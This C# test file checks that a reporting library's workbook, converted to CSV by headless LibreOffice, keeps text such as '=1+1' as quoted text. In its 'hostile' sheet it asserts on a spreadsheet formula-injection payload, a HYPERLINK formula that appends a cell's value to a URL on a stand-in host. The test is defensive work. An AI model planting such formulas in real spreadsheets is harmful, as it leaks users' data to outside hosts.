using System.Diagnostics;
using IroService.TestKit;
using IroService.TestKit.Servers;
using static IroService.Casework.Tests.Reports.AReport;

namespace IroService.Casework.Tests.Reports;

/// <summary>A program that our libraries know nothing of opens the workbook. It quotes text and not numbers.</summary>
public class A_workbook_in_an_office
{
    private const string EverySheetTextQuoted = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false,-1";

    [Fact]
    public async Task Shows_numbers_as_numbers_and_text_as_text()
    {
        using var folder = new TemporaryFolder();
        var table = Table("Ratings by team", "Team", ["Green", "Rated"], Row("=1+1", Share(1979, 2503), Count(79)), Row("👩‍👧 East", Share(0, 0), null), Row("12", Share(100, 200), Count(0)));
        folder.With("report.xlsx", Workbook(Of(table, HostileTable("[=2+2]"))));
        await OpenAsync(folder);
        var lines = await File.ReadAllLinesAsync(folder.FileNamed("report-Ratings by team.csv"), TestContext.Current.CancellationToken);
        Assert.Equal(
            [
                "\"Ratings by team\",,,,", "\"How it counts.\",,,,", ",,,,", "\"Team\",\"Green: number\",\"Green: out of\",\"Green: %\",\"Rated\"",
                "\"=1+1\",1979,2503,79.1,79", "\"👩‍👧 East\",0,0,\"n/a\",", "\"12\",100,200,50,0",
            ],
            lines);
        var hostile = await File.ReadAllTextAsync(folder.FileNamed("report-=2+2.csv"), TestContext.Current.CancellationToken);
        Assert.Contains("\"=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"Team\"\")\"", hostile, StringComparison.Ordinal);
    }

    private static async Task OpenAsync(TemporaryFolder folder)
    {
        var start = new ProcessStartInfo(RequiresServer.Program("soffice", "libreoffice-calc"))
        {
            ArgumentList = { $"-env:UserInstallation=file://{folder.Path}/profile", "--headless", "--norestore", "--convert-to", EverySheetTextQuoted, "--outdir", folder.Path, folder.FileNamed("report.xlsx") },
            UseShellExecute = false,
            RedirectStandardError = true,
            RedirectStandardOutput = true,
        };
        using var office = Process.Start(start)!;
        var said = office.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
        var errors = await office.StandardError.ReadToEndAsync(TestContext.Current.CancellationToken);
        await office.WaitForExitAsync(TestContext.Current.CancellationToken);
        Assert.True(office.ExitCode == 0 && File.Exists(folder.FileNamed("report-About.csv")), $"soffice ended with {office.ExitCode}: {await said}{errors}");
    }
}
